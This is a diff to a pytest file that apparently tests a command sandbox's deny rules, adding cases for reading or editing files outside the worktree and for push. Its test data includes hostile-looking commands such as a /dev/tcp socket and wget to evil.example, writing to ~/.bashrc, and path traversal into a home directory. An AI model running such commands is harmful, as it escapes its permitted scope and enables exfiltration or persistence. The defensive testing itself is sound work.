@@ -199,6 +199,11 @@ def test_an_allow_is_never_wider_than_its_words(worktree: Path, policy: str, com
         ("deny network", "curl https://example.org"),
         ("deny network", "git clone x"),
         ("deny network", "exec 3<>/dev/tcp/evil.example/80"),
+        ("deny read_outside", "cat ~/notes/x"),
+        ("deny read_outside", "cd src && grep x ../../home/notes/x"),
+        ("deny edit_outside", "cp src/a.py ~/notes/x"),
+        ("deny edit_outside", "cat src/a.py $x > ~/.bashrc"),
+        ("deny push", "echo " + "x" * 30_000 + " $x"),
         ("deny network evil.example", "python3 -c 'open(\"https://evil.example\")'"),
         ("deny network *.evil.example", "wget http://a.evil.example/x"),
         ("deny command docker run *", "docker --host x run --rm y"),
@@ -216,7 +221,9 @@ def test_a_deny_takes_every_spelling_in_every_mode(
     assert "policy" in verdict.reason
 
 
-@pytest.mark.parametrize("policy", ["deny push; deny install; deny delete; deny command git push"])
+@pytest.mark.parametrize(
+    "policy", ["deny push; deny install; deny delete; deny command git push; deny edit_outside; deny read_outside"]
+)
 @pytest.mark.parametrize(
     "command", ["grep -rn 'git push' src", "git commit -m 'no git push'", "echo npm install", "ls"]
 )
